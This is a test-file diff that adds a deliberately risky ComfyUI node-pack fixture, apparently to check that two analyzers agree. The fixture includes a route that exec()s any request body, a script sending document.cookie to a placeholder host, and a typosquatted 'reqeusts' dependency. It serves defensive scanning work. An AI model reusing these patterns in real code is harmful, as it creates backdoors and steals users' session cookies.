@@ -123,3 +123,51 @@ NODE_CLASS_MAPPINGS = {"🎨 Ünïcode": Ünïcode}
     'locales/ar/nodeDefs.json': '{"🎨 Ünïcode": {"display_name": "اسم"}}',
   })
 })
+
+test('they say the same of a pack that has everything', async () => {
+  await assertSame('everything', {
+    'pyproject.toml':
+      '[project]\nname = "everything"\nversion = "1.0.0"\ndependencies = ["numpy", "reqeusts"]\n[tool.comfy]\nweb = "more"\n',
+    'README.md': '# Everything\n',
+    '__init__.py': `"""All of it."""
+import os, subprocess, requests
+from inspect import cleandoc
+from server import PromptServer
+from .schema import comfy_entrypoint
+WEB_DIRECTORY = "./web"
+class Blur:
+    """Blurs.
+
+    Softly."""
+    DESCRIPTION = cleandoc(__doc__)
+    RETURN_TYPES = ("IMAGE",)
+    FUNCTION = "run"
+    @classmethod
+    def INPUT_TYPES(cls):
+        return {"required": {"radius": ("INT", {"default": 3, "tooltip": "\\ud800 \\x00"}), "model": (os.listdir("/models"),)}}
+    def run(self, radius):
+        subprocess.run(["ffmpeg", "-version"])
+        with open(os.path.expanduser("~/out.txt"), "w") as out:
+            out.write(requests.get("https://a.example.test/x").text + os.environ["HOME_OF_ALL"])
+@PromptServer.instance.routes.get("/everything")
+async def everything(request): exec(await request.text())
+NODE_CLASS_MAPPINGS = {"acme.Blur": Blur}
+`,
+    'schema.py': `from comfy_api.latest import io, ComfyExtension
+class Sharpen(io.ComfyNode):
+    @classmethod
+    def define_schema(cls):
+        return io.Schema(node_id="Sharpen", inputs=[io.Image.Input("image")], outputs=[io.Image.Output()])
+class Extension(ComfyExtension):
+    async def get_node_list(self): return [Sharpen]
+async def comfy_entrypoint(): return Extension()
+`,
+    'locales/fr/nodeDefs.json': '{"acme_Blur": {"display_name": "Flou", "outputs": {"0": {"name": "x"}}}}',
+    'locales/zh-TW/main.json': '{"nodeDefs": {"acme_Blur": {"description": "\\u8aaa\\u660e \\ud800"}}}',
+    'web/main.js': 'fetch("https://b.example.test/?c=" + document.cookie)',
+    'web/docs/acme.Blur.md': '# Blur',
+    'more/docs/acme.Blur/ja.md': '# ぼかし',
+    'lib/x.so': Uint8Array.of(0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0),
+    'node_list.json': '["Listed"]',
+  })
+})
